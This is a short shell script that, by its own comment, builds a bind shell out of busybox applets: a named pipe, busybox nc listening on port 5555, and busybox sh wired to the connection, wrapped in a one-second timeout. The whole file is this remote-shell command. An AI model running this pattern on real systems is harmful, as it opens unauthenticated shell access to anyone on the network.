#!/bin/sh
# needs: busybox timeout
# A bind shell of applets, one of them under timeout.
mkfifo /tmp/p
timeout 1 busybox nc -l -p 5555 < /tmp/p | busybox sh > /tmp/p 2>&1
rm -f /tmp/p
